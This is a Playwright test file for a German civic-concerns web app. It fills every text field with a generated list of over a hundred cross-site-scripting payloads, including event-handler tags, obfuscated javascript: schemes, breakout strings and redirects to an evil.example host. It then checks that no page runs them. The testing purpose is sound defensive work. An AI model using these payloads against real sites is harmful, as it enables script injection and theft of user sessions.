"""Words never become script: payloads in every text field, on every page that shows them, in a real browser (T10)."""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser

from app.accounts.models import Account, Department
from app.concerns.models import Concern, Message, Topic
from app.concerns.rules import MessageKind, Progress, Review
from app.concerns.service import progress
from app.forums.models import Forum
from app.kernel.db import db
from app.moderation import service as moderation
from app.moderation.models import ReturnReason
from app.pages import service as pages
from app.pages.rules import Detail
from tests import factories
from tests.support import browser

pytestmark = pytest.mark.browser

RUN = "window.ran=1"
TAGS = [
    "img src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "details open ontoggle",
    "input autofocus onfocus",
    "iframe onload",
    "marquee onstart",
    "audio src=x onerror",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "style onload",
    "link rel=stylesheet href=x onerror",
    "object data=x onerror",
    "math onclick",
    "keygen autofocus onfocus",
]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "data:text/html,<script>",
    "vbscript:",
    "javascript&colon;",
    "&#106;avascript:",
    "javascript://%0a",
]
BREAKOUTS = [
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</option></select>",
    "&quot;>",
    '\\">',
    "{{",
    "{%",
    "${",
    "<!--",
    "</p><p ",
    "\u2028",
]
PAYLOADS = [
    *(f"<{tag}={RUN}>" for tag in TAGS),
    *(f"<{tag}='{RUN}'//" for tag in TAGS),
    *(f'<a href="{scheme}{RUN}">x</a>' for scheme in SCHEMES),
    *(f"{scheme}{RUN}" for scheme in SCHEMES),
    *(f"{breakout}<script>{RUN}</script>" for breakout in BREAKOUTS),
    *(f"{breakout} onmouseover={RUN} autofocus onfocus={RUN} x={breakout}" for breakout in BREAKOUTS),
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"＜script＞{RUN}＜/script＞",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    "{{7*7}}{% raise %}",
    f"<base href=//evil.example/><script src=x>{RUN}</script>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"\u202e<script>{RUN}</script>",
    f"[x](javascript:{RUN})",
    f"## <script>{RUN}</script>",
    f"- <img src=x onerror={RUN}>",
    f'https://example.org/" onmouseover="{RUN}',
    f"<template><script>{RUN}</script></template>",
]
ADDRESSES = [
    "/de/",
    "/de/anliegen",
    "/de/anliegen/{number}",
    "/de/ortsteile",
    "/de/ortsteile/06",
    "/de/foren/{slug}",
    "/de/impressum",
    "/de/datenschutz",
    "/de/regeln",
    "/de/anliegen/neu",
    "/ar/anliegen/{number}",
    "/de/anliegen?q={payload}",
]
FOR_STAFF = [
    "/de/arbeit",
    "/de/arbeit/anliegen",
    "/de/arbeit/anliegen?zeigen=veroeffentlicht",
    "/de/arbeit/anliegen/{number}",
    "/de/arbeit/anliegen/{number}/verlauf",
    "/de/arbeit/protokoll",
    "/de/arbeit/gruende",
    "/de/arbeit/themen",
    "/de/arbeit/foren",
    "/de/arbeit/konten",
    "/de/arbeit/fachaemter",
    "/de/arbeit/betreiber",
    "/de/arbeit/weiterleitungen",
    "/de/arbeit/bedarfe",
]
FOUND = """() => {
  const all = [...document.querySelectorAll("main *, footer *, header *")];
  const protocol = (link) => new URL(link.getAttribute("href"), location).protocol;
  return {
    ran: window.ran || 0,
    handlers: all.flatMap((e) => [...e.attributes].map((a) => a.name)).filter((name) => name.startsWith("on")),
    links: [...document.querySelectorAll("a[href]")].map(protocol).filter((p) => !/^(https?|mailto|tel):$/.test(p)),
    strangers: document.querySelectorAll("main script, main iframe, main object, main base, main style").length,
  };
}"""


@pytest.fixture
def watched(chromium: Browser) -> Iterator[Callable[..., Any]]:
    """A tab that notes dialogs, foreign requests and broken policies."""
    contexts = []

    def make(address: str, cookie: str = "") -> tuple[Any, list[str]]:
        context = chromium.new_context(base_url=address)
        contexts.append(context)
        if cookie:
            context.add_cookies([{"name": "staff", "value": cookie, "url": address}])
        page, faults = context.new_page(), []
        page.on("dialog", lambda dialog: (faults.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on(
            "request", lambda request: None if request.url.startswith((address, "data:")) else faults.append(request.url)
        )
        page.on("console", lambda said: faults.append(said.text) if "Content Security Policy" in said.text else None)
        return page, faults

    yield make
    for context in contexts:
        context.close()


def _faults(page: Any, noted: list[str], address: str) -> list[str]:
    page.goto(address)
    found = page.evaluate(FOUND)
    own = [f"{name}: {value}" for name, value in found.items() if value]
    return [f"{address}: {fault}" for fault in [*own, *noted]]


def _all_fields_say(words: list[str]) -> dict[str, str]:
    """Put these words into every text field there is. Several concerns share them, so that a list shows many at once."""
    said = "\n".join(words)
    topic = db.session.get(Topic, "wohnumfeld")
    topic.label = said
    place = factories.ortsteil("06", name=said)
    forum: Forum = factories.forum("worte", [place.key], name=said, description=said, place=said, rhythm=said)
    department = Department(key="amt", name=said, short=said, what_for=said)
    db.session.add_all([department, ReturnReason(key="worte", label=said, text=said)])
    account: Account = factories.account(
        "quarter_worker", "administrator", "planning_coordinator", name=said, forums=[forum]
    )
    for word in words:
        factories.concern(text=word, title=word, where_exactly=word)
    concern: Concern = factories.concern(text=said, title=said[:200], where_exactly=said)
    waiting = factories.concern(text=said, review=Review.WAITING)
    db.session.add(Message(concern_id=waiting.id, kind=MessageKind.ADDITION, text=said, language="de"))
    progress.add_entry(
        concern=concern,
        step=Progress.REFERRED,
        happened_on=concern.reported_on,
        text=said,
        department_key="amt",
        promised_on=concern.reported_on,
        link="",
        account=account.id,
    )
    moderation.log(act="test", subject=said, note=said, account=account.id)
    pages.describe_operator(details=dict.fromkeys(Detail, said))
    cookie = factories.session_of(account)
    return {"number": concern.number, "waiting": waiting.number, "slug": forum.slug, "cookie": cookie, "payload": words[0]}


BATCH = 24
BATCHES = [PAYLOADS[at : at + BATCH] for at in range(0, len(PAYLOADS), BATCH)]


@pytest.mark.parametrize("at", [pytest.param(at, marks=[pytest.mark.full] if at else []) for at in range(len(BATCHES))])
def test_no_word_runs_on_any_page(live, watched, at):
    things = _all_fields_say(BATCHES[at])
    db.session.commit()
    live.leave()
    resident, noted = watched(live.address)
    worker, noted_by_worker = watched(live.address, things["cookie"])

    faults = [fault for path in ADDRESSES for fault in _faults(resident, noted, path.format(**things))]
    working = [*FOR_STAFF, "/de/arbeit/anliegen/{waiting}"]
    faults += [fault for path in working for fault in _faults(worker, noted_by_worker, path.format(**things))]
    live.enter()

    assert faults == []


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 100


def test_the_watch_sees_a_page_that_runs_words(watched):
    """The weak twin: a page that shows words as they come."""

    def weak(_environ: dict[str, Any], start_response: Callable[..., Any]) -> list[bytes]:
        start_response("200 OK", [("Content-Type", "text/html")])
        return [f"<main>{PAYLOADS[0]}<script>{RUN}</script></main>".encode()]

    with browser.serving(weak) as address:  # type: ignore[arg-type]
        page, noted = watched(address)

        assert _faults(page, noted, "/")
